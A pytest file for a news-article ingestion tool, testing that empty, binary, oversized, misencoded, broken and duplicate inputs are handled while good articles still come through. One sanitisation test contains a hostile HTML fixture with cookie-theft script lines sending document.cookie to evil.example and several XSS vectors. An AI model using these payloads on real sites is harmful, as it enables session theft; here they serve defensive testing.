"""Bad inputs become one-line problems while good inputs beside them still come out."""
from __future__ import annotations

import gzip

import pytest

from newssift.config import DEFAULT_CONFIG
from newssift.ingest import ingest

GOOD = (
    "Harbour Works Delayed Again\n\n"
    "Work on the new harbour wall has been delayed until the autumn because of a shortage of steel, the port authority said on Wednesday.\n\n"
    "The authority's director, Anika Berg, said contractors had been told to prioritise the southern section before winter storms.\n"
)
OTHER = (
    "A second reservoir will be built north of the town to cope with dry summers, the water company announced on Friday.\n\n"
    "The company said construction would take three years and cost about 40 million pounds, paid for through bills.\n"
)


def _good(tmp_path, name="good.txt", text=GOOD):
    p = tmp_path / name
    p.write_text(text, encoding="utf-8")
    return p


def _one_problem(result, code):
    assert len(result.problems) == 1, result.problems
    prob = result.problems[0]
    assert prob.code == code
    assert prob.message and "\n" not in prob.message
    return prob


def _good_came_out(result, ident="good"):
    doc = next(d for d in result.documents if d.id == ident)
    assert "shortage of steel" in doc.text
    assert doc.title == "Harbour Works Delayed Again"
    return doc


def test_empty_file(tmp_path):
    (tmp_path / "empty.txt").write_bytes(b"")
    (tmp_path / "blank.txt").write_bytes(b"  \n\n \t\n")
    res = ingest([str(tmp_path / "empty.txt"), str(tmp_path / "blank.txt"), str(_good(tmp_path))])
    assert [(p.code, p.message) for p in res.problems] == [("empty", "file is empty"), ("empty", "file is empty")]
    _good_came_out(res)


def test_binary_file(tmp_path):
    (tmp_path / "photo.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    (tmp_path / "blob.html").write_bytes(b"abc\x00\x01\x02" * 100)
    res = ingest([str(tmp_path / "photo.txt"), str(tmp_path / "blob.html"), str(_good(tmp_path))])
    assert [(p.code, p.message) for p in res.problems] == [
        ("binary", "looks like a PNG image, not text or HTML"),
        ("binary", "looks like binary data, not text or HTML"),
    ]
    _good_came_out(res)


def test_file_over_the_size_cap(tmp_path):
    big = tmp_path / "big.txt"
    big.write_text("Word " * 400, encoding="utf-8")
    cfg = DEFAULT_CONFIG.with_(max_input_bytes=1000)
    res = ingest([str(big), str(_good(tmp_path))], config=cfg)
    prob = _one_problem(res, "too_large")
    assert "2,000 bytes" in prob.message and "1,000-byte limit" in prob.message
    _good_came_out(res)


def test_gzip_bomb_is_capped(tmp_path):
    bomb = tmp_path / "bomb.html.gz"
    bomb.write_bytes(gzip.compress(b"<p>" + b"a" * 50_000 + b"</p>"))
    cfg = DEFAULT_CONFIG.with_(max_input_bytes=5000)
    res = ingest([str(bomb), str(_good(tmp_path))], config=cfg)
    _one_problem(res, "too_large")
    _good_came_out(res)


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1"])
def test_non_utf8_text_is_decoded_right(tmp_path, encoding):
    text = (
        "Café owners in the old town said on Monday that the new parking rules had cost them customers all summer.\n\n"
        "The town’s mayor, Agnès Lefèvre, said the rules would be reviewed — “as soon as the figures are in”.\n"
    )
    if encoding == "latin-1":
        text = text.replace("’", "'").replace("—", "-").replace("“", '"').replace("”", '"')
    p = tmp_path / f"{encoding}.txt"
    p.write_bytes(text.encode(encoding))
    res = ingest([str(p), str(_good(tmp_path))])
    assert not res.problems
    doc = next(d for d in res.documents if d.id == encoding)
    assert "Café owners" in doc.text and "Agnès Lefèvre" in doc.text
    if encoding == "cp1252":
        assert "town’s mayor" in doc.text and "“as soon as the figures are in”" in doc.text
    _good_came_out(res)


def test_undecodable_text(tmp_path):
    # Random high bytes with no plausible single-byte or multi-byte reading.
    import random

    rnd = random.Random(7)
    junk = bytes(rnd.randrange(128, 256) for _ in range(400))
    (tmp_path / "junk.txt").write_bytes(junk)
    res = ingest([str(tmp_path / "junk.txt"), str(_good(tmp_path))])
    prob = _one_problem(res, "encoding")
    assert prob.message == "text is not UTF-8 and its encoding could not be recognised"
    _good_came_out(res)


def test_non_english_article_is_processed_with_its_language(tmp_path):
    de = tmp_path / "bericht.txt"
    de.write_text(
        "Die Stadtverwaltung hat am Montag angekündigt, dass die alte Brücke über den Fluss im Frühjahr saniert wird.\n\n"
        "Nach Angaben der Behörde werden die Arbeiten etwa drei Monate dauern und rund zwei Millionen Euro kosten.\n",
        encoding="utf-8",
    )
    res = ingest([str(de), str(_good(tmp_path))])
    assert not res.problems
    langs = {d.id: d.language for d in res.documents}
    assert langs == {"bericht": "de", "good": "en"}


def test_broken_html(tmp_path):
    broken = tmp_path / "broken.html"
    broken.write_text(
        "<html><head><title>Tram line reopens</title><body><div><p>The tram line between the station and the university "
        "reopened on Saturday after three months of track repairs, the transport authority said.<p>Passengers will see "
        "trams every six minutes at peak times, it added, and night services resume next month.<div><span>unclosed",
        encoding="utf-8",
    )
    nothing = tmp_path / "nothing.html"
    nothing.write_text("<html><body><div></div></body></html>", encoding="utf-8")
    res = ingest([str(broken), str(nothing), str(_good(tmp_path))])
    prob = _one_problem(res, "parse")
    assert prob.source.endswith("nothing.html") and "no article text" in prob.message
    doc = next(d for d in res.documents if d.id == "broken")
    assert "tram line between the station" in doc.text and "night services resume" in doc.text
    _good_came_out(res)


def test_hostile_html_never_leaks_code(tmp_path):
    page = tmp_path / "hostile.html"
    page.write_text(
        """<html><head><title>Council Budget Passed</title>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('onload')">
<article><h1>Council budget passed</h1>
<p>The council passed its budget on Tuesday night after a four-hour debate, with spending on roads rising by a tenth.</p>
<img src="x" onerror="alert('img-onerror')">
<script>var stolen = document.cookie; fetch('http://evil.example/' + stolen);</script>
<p>Opposition councillors said the plan <a href="javascript:alert('link')">ignored</a> the needs of rural villages.</p>
<noscript><p>alert('noscript')</p></noscript>
<iframe srcdoc="<script>alert('frame')</script>"></iframe>
<!-- <script>alert('comment')</script> -->
<p>The budget takes effect in April, and council tax will rise by just under five percent, officials said.</p>
</article></body></html>""",
        encoding="utf-8",
    )
    res = ingest([str(page), str(_good(tmp_path))])
    assert not res.problems
    doc = next(d for d in res.documents if d.id == "hostile")
    assert "four-hour debate" in doc.text and "rural villages" in doc.text and "five percent" in doc.text
    for bad in ("alert", "document.cookie", "onerror", "javascript", "fetch(", "<script", "evil.example"):
        assert bad not in doc.text, bad
        assert all(bad not in e for e in doc.embeds)
    assert doc.title == "Council budget passed"
    _good_came_out(res)


def test_directory_with_no_usable_file(tmp_path):
    junk = tmp_path / "junk"
    junk.mkdir()
    (junk / "notes.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    (junk / "picture.png").write_bytes(b"\x89PNG\r\n")
    (junk / ".hidden.txt").write_text(GOOD, encoding="utf-8")
    res = ingest([str(junk), str(_good(tmp_path))])
    prob = _one_problem(res, "no_inputs")
    assert prob.source == str(junk) and "no article files" in prob.message
    _good_came_out(res)


def test_missing_path_and_empty_glob(tmp_path):
    res = ingest([str(tmp_path / "nope.txt"), str(tmp_path / "*.xyz"), "ftp://example.org/a", str(_good(tmp_path))])
    assert [p.code for p in res.problems] == ["not_found", "not_found", "unsupported"]
    _good_came_out(res)


def test_duplicate_articles_are_kept_once(tmp_path):
    a = _good(tmp_path, "a.txt")
    # The same article with other line endings, spacing and a nav line.
    b = tmp_path / "b.txt"
    b.write_bytes(("Home  News  Sport  Weather  Contact\r\n\r\n" + GOOD.replace("\n", "\r\n").replace(" the port", "  the port")).encode())
    c = _good(tmp_path, "c.txt", OTHER)
    res = ingest([str(a), str(b), str(c)])
    assert [d.id for d in res.documents] == ["a", "c"]
    assert len(res.duplicates) == 1
    dup = res.duplicates[0]
    assert (dup.kept, dup.dropped) == ("a", "b") and dup.source == str(b)
    assert res.documents[0].content_hash != res.documents[1].content_hash
    assert len(res.documents[0].content_hash) == 64
